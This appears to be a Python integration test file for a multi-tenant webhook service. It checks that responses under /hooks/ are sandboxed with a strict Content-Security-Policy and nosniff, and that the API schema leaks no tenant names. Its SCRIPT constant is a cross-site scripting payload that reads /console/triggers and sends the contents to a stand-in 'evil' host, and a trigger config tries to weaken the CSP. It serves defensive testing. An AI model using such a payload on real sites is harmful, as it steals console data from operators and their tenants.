"""Hook answers share the console's origin, and a tenant chooses their body and Content-Type.

So every answer under /hooks/ (a workflow's, an async one, a problem document, a status
URL) carries `Content-Security-Policy: sandbox; default-src 'none'` and nosniff: a page a
workflow serves runs no script and has an opaque origin, whatever it asks for.
"""

from __future__ import annotations

import httpx

from shared.db.pool import Connection
from tests.helpers import apply_yaml, eventually, new_key
from tests.stack import Services

CSP = "sandbox; default-src 'none'"
SCRIPT = "<script>fetch('/console/triggers').then(r => r.text()).then(t => fetch('//evil/?' + t))</script>"

TRIGGERS = """
workspace: {ws}
triggers:
  - name: page
    methods: [GET]
    auth: {{type: none}}
    mode: request_response
    timeout: 10s
    workflow:
      - respond:
          status: 200
          headers:
            content-type: text/html
            content-security-policy: script-src * 'unsafe-inline'
            X-Content-Type-Options: sniff
          body: "{{{{ request.query.b }}}}"
  - name: later
    auth: {{type: none}}
    mode: async
    response:
      status: 202
      headers: {{content-type: text/html}}
      body: "<script>1</script>"
    workflow: [{{map: {{x: 1}}}}]
  - name: plain
    auth: {{type: api_key}}
    mode: async
    workflow: [{{map: {{x: 1}}}}]
"""


def assert_sandboxed(answer: httpx.Response) -> None:
    assert answer.headers.get_list("content-security-policy") == [CSP]
    assert answer.headers.get_list("x-content-type-options") == ["nosniff"]


async def test_a_respond_of_text_html_with_a_script_from_hooks_carries_the_sandbox_csp_and_nosniff(
    stack: Services, db: Connection, workspace: str
) -> None:
    await apply_yaml(db, TRIGGERS.format(ws=workspace))

    async def page() -> httpx.Response | None:
        async with httpx.AsyncClient(base_url=stack.base_url) as client:
            answer = await client.get(f"/hooks/{workspace}/page", params={"b": SCRIPT}, timeout=15)
        return answer if answer.status_code == 200 else None

    answer = await eventually(page, timeout=20)
    assert answer.headers["content-type"].startswith("text/html")
    assert answer.text == SCRIPT  # served as the workflow said, but sandboxed:
    assert_sandboxed(answer)  # the workflow's own CSP and X-Content-Type-Options are not sent


async def test_async_answers_problem_documents_and_status_urls_under_hooks_are_sandboxed(
    stack: Services, db: Connection, workspace: str
) -> None:
    await apply_yaml(db, TRIGGERS.format(ws=workspace))
    key = (await new_key(db, workspace, "plain")).key
    async with httpx.AsyncClient(base_url=stack.base_url) as client:

        async def accepted() -> httpx.Response | None:
            answer = await client.post(f"/hooks/{workspace}/plain", json={}, headers={"X-API-Key": key})
            return answer if answer.status_code == 202 else None

        default = await eventually(accepted)
        configured = await client.post(f"/hooks/{workspace}/later", json={})
        unauthorized = await client.post(f"/hooks/{workspace}/plain", json={})
        missing = await client.get(f"/hooks/{workspace}/no-such-trigger")
        status = await client.get(default.json()["status_url"], headers={"X-API-Key": key})
    assert configured.status_code == 202
    assert configured.headers["content-type"].startswith("text/html")
    assert (unauthorized.status_code, missing.status_code) == (401, 404)
    assert missing.headers["content-type"] == "application/problem+json"
    assert status.status_code in (200, 404)  # recorded or not yet: sandboxed either way
    for answer in (default, configured, unauthorized, missing, status):
        assert_sandboxed(answer)


async def test_the_api_schema_names_no_workspace_or_trigger_to_an_anonymous_caller(
    stack: Services, db: Connection, workspace: str
) -> None:
    await apply_yaml(db, TRIGGERS.format(ws=workspace))
    async with httpx.AsyncClient(base_url=stack.base_url) as client:
        schema = await client.get("/api/schema/openapi.json")
    assert schema.status_code == 200
    assert schema.json()["paths"]  # the API's shape, which is public (docs/api.md) ...
    assert workspace not in schema.text  # ... and nothing that names a tenant
    assert "later" not in schema.text
